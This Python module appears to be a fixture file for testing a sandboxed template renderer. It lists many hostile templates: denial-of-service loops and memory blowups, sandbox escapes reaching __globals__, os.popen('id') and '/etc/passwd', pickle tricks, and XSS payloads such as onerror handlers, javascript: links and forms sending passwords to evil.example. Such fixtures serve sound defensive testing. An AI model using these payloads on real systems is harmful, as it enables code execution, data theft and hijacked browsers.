"""Templates that want out: each with what it tries. What they get is an end, or HTML that does nothing."""
from __future__ import annotations

# They run until they are stopped: most take the whole two seconds.
SLOW = {
    "loops within loops": "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}{% endfor %}{% endfor %}{% endfor %}",
    "a loop that says nothing": "{% for a in range(100000) %}{% for b in range(100000) %}{% if false %}x{% endif %}{% endfor %}{% endfor %}",
    "a tower of powers": "{{ 9 ** (9 ** 9) }}",
    "a long number squared over and over": "{% set n = namespace(v=7) %}{% for i in range(99999) %}{% set n.v = n.v * n.v %}{% endfor %}",
    "two macros that call each other in a loop":
        "{% macro a(n) %}{% for i in range(9) %}{% if n %}{{ a(n - 1) }}{% endif %}{% endfor %}{% endmacro %}{% if a(60) %}{% endif %}",
    "a remainder that never ends": "{% set n = 3 ** 4000000 %}{{ n % 7 }}{{ n ** 3 % 11 }}",
    "sorting what was sorted": "{% set s = range(99999)|list %}{% for i in range(99999) %}{% set t = s|sort(reverse=true)|sort %}{% endfor %}",
    "groups of groups": "{% for i in range(99999) %}{% set g = range(9999)|batch(3)|map('list')|list %}{% endfor %}",
    "a cycler turned for ever":
        "{% set c = cycler(1, 2) %}{% for a in range(100000) %}{% for b in range(100000) %}{% if c.next() %}{% endif %}{% endfor %}{% endfor %}",
    "joining without end": "{% for a in range(100000) %}{% set t = range(100000)|join('-')|length %}{% endfor %}",
    "a long text": "{{ 'a' * 300000000 }}",
    "a text made wide": "{{ 'a'|center(300000000) }}",
    "a number made wide": "{{ '%300000000d' % 1 }}",
    "a filter that makes wide": "{{ '%300000000d'|format(1) }}",
    "a list of lists": "{{ ([[1] * 9999999] * 99)|map('list')|list|length }}",
    "indenting": "{{ ('a\n' * 100000)|indent(100000) }}",
    "money of many places": "{{ '1e99999999'|currency }}",
    "deeply nested HTML": "{% for i in range(60000) %}<b><i><div>{% endfor %}",
}
# They eat memory, or say too much.
LARGE = {
    "a number made wide by format": "{{ '{:>300000000}'.format(1) }}",
    "doubling": "{% set n = namespace(s='ab') %}{% for i in range(40) %}{% set n.s = n.s ~ n.s %}{% endfor %}{{ n.s }}",
    "doubling a list": "{% set n = namespace(s=[1]) %}{% for i in range(40) %}{% set n.s = n.s + n.s %}{% endfor %}",
    "a large range": "{% for i in range(999999999) %}{% endfor %}",
    "ranges as lists": "{% set n = namespace(s=[]) %}{% for i in range(9999) %}{% set n.s = n.s + [range(100000)|list] %}{% endfor %}",
    "replacing": "{{ ('a' * 100000)|replace('a', 'b' * 100000) }}",
    "filling": "{{ 'a'.ljust(300000000) }}{{ 'a'.zfill(300000000) }}",
    "tabs": "{{ ('\t' * 100000).expandtabs(100000) }}",
    "a figure of many places": "{{ '1e99999999'|number }}",
    "saying too much": "{% for i in range(100000) %}{{ 'abcdefghij' * 10 }}{% endfor %}",
    "saying what swells when it is cleaned": "{{ '&' * 1900000 }}",
    "a template that is itself too long": "a" * 20_001,
}
# They reach for what is behind the values.
REACHING = {
    "the class of a text": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "the class by index": "{{ ''['__class__'] }}",
    "the class by filter": "{{ ''|attr('__class__') }}",
    "the class by parts": "{{ ''|attr('__cla' ~ 'ss__')|attr('mro') }}",
    "the class by map": "{{ ['']|map(attribute='__class__')|list }}",
    "the class by sum": "{{ ['']|sum(attribute='__class__.__name__', start='') }}",
    "the class by format": "{{ '{0.__class__.__init__.__globals__}'.format(rows) }}",
    "the class by format_map": "{{ '{a.__class__}'.format_map({'a': rows}) }}",
    "the class by a safe text's format": "{{ ('{0.__class__.__mro__}'|escape).format(rows) }}",
    "the class by a filter's format": "{{ '%(a)s'|format(a=rows.__class__) }}",
    "globals of a macro": "{% macro m() %}{% endmacro %}{{ m.__init__.__globals__ }}{{ m._func.__globals__ }}",
    "globals of cycler": "{{ cycler.__init__.__globals__.os.environ }}",
    "globals of joiner": "{{ joiner.__init__.__globals__['os'].popen('id').read() }}",
    "globals of namespace": "{{ namespace.__init__.__globals__ }}",
    "globals of lipsum": "{{ lipsum.__globals__['os'] }}",
    "globals of range": "{{ range.__self__ }}{{ dict.__subclasses__() }}",
    "the template itself": "{{ self.__init__.__globals__ }}{{ self._TemplateReference__context }}",
    "its environment": "{{ self._TemplateReference__context.environment }}{{ environment }}",
    "the request": "{{ request.app }}{{ config }}{{ settings }}",
    "frames of a generator": "{{ (rows|map('upper')).gi_frame.f_globals }}{{ (rows|select).gi_code }}",
    "the caller": "{% macro m() %}{{ caller.__globals__ }}{% endmacro %}{% call m() %}x{% endcall %}",
    "loop and its depth": "{% for r in rows recursive %}{{ loop.__init__.__globals__ }}{{ loop._iterator.__reduce__() }}{% endfor %}",
    "undefined": "{{ rows[99].x.__class__ }}{{ rows[99]._fail_with_undefined_error() }}{{ rows[99].__init__.__globals__ }}",
    "a list changed": "{{ rows.append(1) }}{{ rows.clear() }}{{ rows.pop() }}",
    "a mapping changed": "{{ rows[0].update(a=1) }}{{ rows[0].clear() }}{{ data.pop('x', 0) }}",
    "what pickle would take": "{{ rows.__reduce_ex__(2) }}{{ 'cos\\nsystem\\n(S\"id\"\\ntR.'.encode().__reduce__() }}",
    "bytes to text": "{{ 'YQ=='.encode('idna').decode('unicode_escape') }}{{ 'a'.encode('zlib') }}{{ 'a'.encode('rot13') }}",
    "including a file": "{% include '/etc/passwd' %}",
    "importing": "{% import 'os' as os %}",
    "taking from": "{% from 'base.html' import x %}",
    "extending": "{% extends 'base.html' %}",
    "a block": "{% block a %}{{ self.a() }}{% endblock %}",
    "doing": "{% do rows.append(1) %}",
    "marking as safe": "{{ '<script>'|safe }}",
    "without escaping": "{% autoescape false %}{{ '<script>alert(1)</script>' }}{% endautoescape %}",
    "macros that call themselves": "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
    "brackets in brackets": "{{ " + "(" * 5000 + "1" + ")" * 5000 + " }}",
    "ifs in ifs": "{% if 1 %}" * 1500 + "{% endif %}" * 1500,
    "an expression without end": "{{ 1" + " + 1" * 4500 + " }}",
    "a pattern that backtracks": "{{ ('a@' * 6000 ~ 'http://' * 900)|urlize }}",
    "a lone surrogate": "{{ '\\ud800' }}",
}
# They say what a browser would act on.
SAYING = {
    "a script": "<script>parent.alert(1)</script><script src=/static/app.js></script>",
    "a handler": "<p onclick=alert(1) onmouseover='alert(2)'>a</p><img src=x onerror=alert(1)><details ontoggle=alert(1) open>b</details>",
    "an address that is a script": "<a href='javascript:alert(1)'>a</a><a href=' java\tscript:alert(1)'>b</a><a href='&#106;avascript:alert(1)'>c</a>",
    "an address that is a page": "<a href='data:text/html,<script>alert(1)</script>'>a</a><a href='da\tta:text/html,x'>b</a><a href='DATA:text/html,x'>c</a>",
    "an address in disguise": "<a href='//evil.example'>a</a><a href='/\\evil.example'>b</a><a href='vbscript:x'>c</a><a href='blob:x'>d</a>",
    "a refresh": "<meta http-equiv=refresh content='0;url=//evil.example'><base href='//evil.example'><link rel=stylesheet href='//evil.example'>",
    "a drawing that runs":
        "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>a</text></a></svg><math><mtext></mtext></math>",
    "styles": "<style>*{background:url(//evil.example)}</style><p style='background:url(//evil.example);position:fixed'>a</p>",
    "a form": "<form action=//evil.example><input name=password><button formaction=//evil.example>a</button><textarea>b</textarea></form>",
    "frames": "<iframe src=//evil.example srcdoc='<script>alert(1)</script>'></iframe><object data=//evil.example></object><embed src=//evil.example>",
    "pictures from elsewhere":
        "<img src=//evil.example/a><img src='http://evil.example/a'><img src='data:image/svg+xml,<svg onload=alert(1)>'><img srcset=//e.example>",
    "media": "<video src=//evil.example autoplay></video><audio src=//evil.example></audio><source src=//evil.example><track src=//evil.example>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><math><mi><style></mi><img src=x onerror=alert(1)></style></math>",
    "a comment": "<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]--><?php x ?><![CDATA[<script>]]>",
    "an unclosed tag": "</main></body><body onload=alert(1)><p title=\"a",
    "a template within": "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><plaintext><script>",
    "data that is HTML": "{% for row in rows %}<p title='{{ row.html }}'>{{ row.html }}</p><a href='{{ row.link }}'>a</a>{% endfor %}",
    "escaping undone":
        "{{ (rows[0].html|e).unescape() }}{{ rows[0].html|e|striptags }}{{ '<b>%s'|e|format(rows[0].html) }}"
        "{{ rows[0].html|tojson|replace('\\u003c', '<') }}",
    "a class of ours": "<p class='x\" onclick=\"alert(1)'>a</p><p id=content accesskey=x tabindex=1 contenteditable autofocus>b</p>",
    "custom elements": "<simpul-view src=//evil.example></simpul-view><portal src=//evil.example></portal><dialog open>a</dialog><slot>b</slot>",
}
ALL = {**SLOW, **LARGE, **REACHING, **SAYING}
EACH_A_SECOND = {"doubling a list", "ranges as lists", "filling", "replacing", "tabs", "a number made wide by format"}
SHORTLY = {name: text for name, text in ALL.items() if name not in {*SLOW, *EACH_A_SECOND} or name in ("loops within loops", "a text made wide")}
